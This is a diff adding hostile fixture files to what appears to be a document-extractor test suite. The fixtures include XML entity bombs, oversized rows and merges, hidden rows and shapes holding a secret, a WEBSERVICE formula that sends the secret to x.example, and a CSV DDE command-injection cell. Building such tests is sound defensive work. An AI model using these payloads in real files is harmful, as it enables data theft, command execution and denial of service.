@@ -144,6 +144,63 @@ def overlapping_archive(size: int = 200_000_000) -> bytes:
     return zipped({"word/document.xml": b"<w:document>" + b" " * size})
 
 
+_SHEET = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
+_RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+_RELATIONS = 'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"'
+
+
+def spreadsheet(rows: str, *, before: str = "", after: str = "", strings: str = "", styles: str = "") -> bytes:
+    """Return a spreadsheet of one sheet called Costs.
+
+    Args:
+        rows: the rows of the sheet.
+        before: XML in front of the sheet.
+        after: elements behind its rows.
+        strings: the shared strings.
+        styles: the content of the part that defines the formats of cells.
+    """
+    relations = "".join(
+        f'<Relationship Id="r{kind}" Type="{_RELATION}/{kind}" Target="{part}"/>'
+        for kind, part in (("worksheet", "sheet1.xml"), ("sharedStrings", "strings.xml"), ("styles", "styles.xml"))
+    )
+    away = f'<Relationship Id="r9" Type="{_RELATION}/externalLink" Target="http://x.example/" TargetMode="External"/>'
+    sheets = '<sheets><sheet name="Costs" r:id="rworksheet"/></sheets>'
+    return zipped(
+        {
+            "xl/workbook.xml": f'<workbook {_SHEET} xmlns:r="{_RELATION}">{sheets}</workbook>',
+            "xl/_rels/workbook.xml.rels": f"<Relationships {_RELATIONS}>{relations}{away}</Relationships>",
+            "xl/sheet1.xml": f"{before}<worksheet {_SHEET}><sheetData>{rows}</sheetData>{after}</worksheet>",
+            "xl/strings.xml": f"<sst {_SHEET}>{strings}</sst>",
+            "xl/styles.xml": f"<styleSheet {_SHEET}>{styles}</styleSheet>",
+        }
+    )
+
+
+def sheet_cell(text: str, reference: str = "") -> str:
+    """Return a cell with a text of its own."""
+    place = f' r="{reference}"' if reference else ""
+    return f'<c{place} t="inlineStr"><is><t>{text}</t></is></c>'
+
+
+def slides(shapes: str, before: str = "") -> bytes:
+    """Return a presentation of one slide with `shapes`, and `before` in front of the slide."""
+    relation = f'<Relationship Id="r1" Type="{_RELATION}/slide" Target="slides/slide1.xml"/>'
+    listed = '<sldIdLst><sldId id="256" r:id="r1"/></sldIdLst>'
+    drawing = 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
+    return zipped(
+        {
+            "ppt/presentation.xml": f'<presentation xmlns:r="{_RELATION}">{listed}</presentation>',
+            "ppt/_rels/presentation.xml.rels": f"<Relationships {_RELATIONS}>{relation}</Relationships>",
+            "ppt/slides/slide1.xml": f"{before}<sld {drawing}><cSld><spTree>{shapes}</spTree></cSld></sld>",
+        }
+    )
+
+
+def slide_shape(text: str, more: str = "") -> str:
+    """Return a shape with one paragraph."""
+    return f"<sp><nvSpPr><cNvPr {more}/></nvSpPr><txBody><a:p><a:r><a:t>{text}</a:t></a:r></a:p></txBody></sp>"
+
+
 def _long(motif: str, length: int = 1_000_000) -> str:
     return motif * (length // len(motif))
 
@@ -203,6 +260,39 @@ FILES: dict[str, Callable[[], bytes]] = {
     "bytes.txt": lambda: bytes(range(256)) * 400,
     "fences.md": ("# Some text\n\n" + _long("```\n") + _long("---\n")).encode,
     "signs.md": ("# Some text\n\n" + _long("#") + "\n" + _long("-") + "x").encode,
+    "entities.xlsx": lambda: spreadsheet(f"<row>{sheet_cell('&e0;')}</row>", before=chained_entities()),
+    "laughs.xlsx": lambda: spreadsheet(f"<row>{sheet_cell('&e9;')}</row>", before=laughing_entities()),
+    "last-row.xlsx": lambda: spreadsheet(
+        f"<row>{sheet_cell('Some text', 'A1')}</row><row r='1048576'>{sheet_cell('at the end', 'XFD1048576')}</row>"
+    ),
+    "merged.xlsx": lambda: spreadsheet(
+        f"<row r='1'>{sheet_cell('Some text', 'A1')}{sheet_cell('More', 'B1')}</row>",
+        after="<mergeCells>" + '<mergeCell ref="A1:XFD1048576"/>' * 100_000 + "</mergeCells>",
+    ),
+    "strings.xlsx": lambda: spreadsheet(
+        "<row><c t='s'><v>999999</v></c></row>",
+        strings=f"<si><t>{SECRET}</t></si>" * 999_999 + "<si><t>Some text.</t></si>",
+    ),
+    "hidden.xlsx": lambda: spreadsheet(
+        f"<row>{sheet_cell('Some text.')}</row>" + f'<row hidden="1">{sheet_cell(SECRET)}</row>' * 20_000
+    ),
+    "format.xlsx": lambda: spreadsheet(
+        f'<row>{sheet_cell("Some text")}<c s="0"><v>1E+300</v></c></row>',
+        styles=f'<numFmts><numFmt numFmtId="200" formatCode="{_long("0,", 100_000)}"/></numFmts>'
+        '<cellXfs><xf numFmtId="200"/></cellXfs>',
+    ),
+    "formula.xlsx": lambda: spreadsheet(
+        f"""<row>{sheet_cell("Some text")}<c t="str"><f>WEBSERVICE("http://x.example/{SECRET}")</f><v>5</v></c></row>"""
+    ),
+    "rows.xlsx": lambda: spreadsheet(f"<row>{sheet_cell('Some text.')}</row>" + "<row/>" * 1_048_575),
+    "unpacked.xlsx": lambda: spreadsheet(" " * 200_000_000),
+    "cut.xlsx": lambda: spreadsheet(sheet_cell("Some text."))[:-30],
+    "laughs.pptx": lambda: slides(slide_shape("&e9;"), laughing_entities()),
+    "hidden.pptx": lambda: slides(slide_shape("Some text.") + slide_shape(SECRET, 'hidden="1"') * 20_000),
+    "groups.pptx": lambda: slides("<grpSp>" * 50_000 + slide_shape("Some text.") + "</grpSp>" * 50_000),
+    "quotes.csv": ('Some text,"' + _long('""",', 1_000_000)).encode,
+    "formula.csv": "Some text;=cmd|' /C calc'!A0;=HYPERLINK(0)\n".encode,
+    "columns.csv": ("Some text" + "," * 2_000_000).encode,
     "parts.eml": (
         "From: a@b.c\nMIME-Version: 1.0\n"
         + "".join(f'Content-Type: multipart/mixed; boundary="b{n}"\n\n--b{n}\n' for n in range(2_000))
@@ -218,6 +308,9 @@ _HOLDS = {
     "one-line.pdf": "aaa",
     "cut.pdf": "ab",
     "laughs.docx": "ha",
+    "laughs.xlsx": "ha",
+    "laughs.pptx": "ha",
+    "entities.xlsx": "Hello",
     "entities.docx": "Hello",
     "paragraphs-in-paragraphs.docx": "Text.",
     "tables-in-tables.docx": "Text.",
@@ -226,12 +319,13 @@ _HOLDS = {
 """Words that a person sees in a file, by the file's name, if they are not "Some text"."""
 
 _SHOWS_NOTHING = frozenset(
-    "paths.pdf states.pdf own-pages.pdf attributes.docx one-tag.docx namespaces.docx unpacked.docx".split()
+    "paths.pdf states.pdf own-pages.pdf attributes.docx one-tag.docx namespaces.docx unpacked.docx"
+    " unpacked.xlsx".split()
 )
 
 _SHOWS_ALONE = frozenset(
     "nested-arrays.pdf doctype.docx long-tag.epub long-tag.xhtml headers.html attributes.html styles.html at-rules.html"
-    " comments.html json.html hidden.pdf hidden.docx hidden.epub hidden.html".split()
+    " comments.html json.html hidden.pdf hidden.docx hidden.epub hidden.html hidden.pptx".split()
 )
 """Files in which a person sees "Some text." and nothing else."""
 
